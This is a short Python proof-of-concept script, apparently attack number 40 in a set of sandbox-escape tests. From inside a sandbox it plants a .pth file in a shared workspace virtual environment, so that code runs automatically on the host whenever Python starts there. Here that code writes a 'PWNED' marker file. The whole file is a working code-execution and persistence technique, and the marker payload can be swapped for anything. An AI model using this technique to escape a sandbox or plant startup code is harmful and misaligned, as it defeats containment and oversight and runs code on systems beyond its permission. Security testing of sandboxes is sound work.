# INSIDE the sandbox: plant a .pth in the workspace's venv (named venv, not .venv), and for contrast in .venv
import os, glob
for v in ["venv", ".venv"]:
    sp = glob.glob(v + "/lib/python3*/site-packages")
    if not sp: print(v, "no site-packages"); continue
    try:
        open(sp[0] + "/zz_atk40.pth", "w").write("import os; open('/tmp/atk40/PWNED-BY-PTH-' + os.environ.get('USER', str(os.getuid())), 'w').write('host code ran\\n')\n")
        print("wrote", sp[0] + "/zz_atk40.pth")
    except OSError as e: print(v, e)
